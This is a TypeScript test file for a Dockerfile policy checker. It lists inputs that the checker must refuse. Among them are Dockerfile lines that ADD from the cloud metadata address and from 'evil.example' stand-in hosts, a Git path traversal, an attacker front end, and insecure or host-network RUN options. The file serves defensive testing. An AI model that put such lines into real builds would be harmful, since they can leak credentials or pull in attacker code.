import assert from 'node:assert/strict'
import { test } from 'node:test'
import { checkDockerfile } from './dockerfile.ts'
import { findingText } from './finding.ts'

const REFUSED: readonly (readonly [title: string, text: string, rule: string])[] = [
  ['another front end', '# syntax=evil/frontend:1\nFROM a', 'POL101'],
  ['another front end after other comments', '# hello\n#   SYNTAX = evil/x\nFROM a', 'POL101'],
  ['a build without a sandbox', 'FROM a\nRUN --security=insecure id', 'POL102'],
  [
    'a build in the network of the host',
    'FROM a\nRUN --mount=type=cache,target=/x \\\n  --network=host id',
    'POL102',
  ],
  ['a mount of SSH keys', 'FROM a\nRUN --mount=type=ssh id', 'POL102'],
  ['ADD from an address', 'FROM a\nADD http://169.254.169.254/latest /x', 'POL103'],
  ['ADD from an address as JSON', 'FROM a\nadd ["https://evil.example/x", "/x"]', 'POL103'],
  ['ADD from Git', 'FROM a\nADD --keep-git-dir=true git@evil.example:x.git#main:../.. /x', 'POL103'],
  ['a hundred stages', 'FROM a\n'.repeat(100), 'POL104'],
  ['300 KiB', `FROM a\n#${'x'.repeat(300 * 1024)}`, 'POL104'],
]

for (const [title, text, rule] of REFUSED) {
  test(`C41 ${title} is refused by ${rule}`, () => {
    const errors = checkDockerfile('Dockerfile', text).filter(finding => finding.severity === 'error')
    assert.deepEqual(
      errors.map(finding => finding.rule),
      [rule],
    )
  })
}

test('C41 a finding has the line where its instruction begins', () => {
  const text = 'FROM a\n\n# why\nRUN --mount=type=cache,target=/x \\\n  --security=insecure \\\n  id\n'
  assert.deepEqual(checkDockerfile('web/Dockerfile', text).map(findingText), [
    'web/Dockerfile:4: POL102 RUN: "RUN --mount=type=cache,target=/x" gives a build more than it may have. Remove the option.',
  ])
})

test('an ordinary Dockerfile is fine; the usual front end only costs a look at Docker Hub', () => {
  const text = `FROM node:26 AS build
ARG MODE=prod
RUN --mount=type=secret,id=npm --mount=type=cache,target=/root/.npm npm ci && echo "ADD http://x"
COPY --from=build https.txt /x
ADD files.tar.gz /y
# syntax=evil/too-late
HEALTHCHECK CMD ["true"]
`
  assert.deepEqual(checkDockerfile('Dockerfile', text), [])
  const [finding] = checkDockerfile('Dockerfile', `# syntax=docker/dockerfile:1.7\n${text}`)
  assert.deepEqual([finding?.severity, finding?.rule], ['warning', 'POL101'])
})
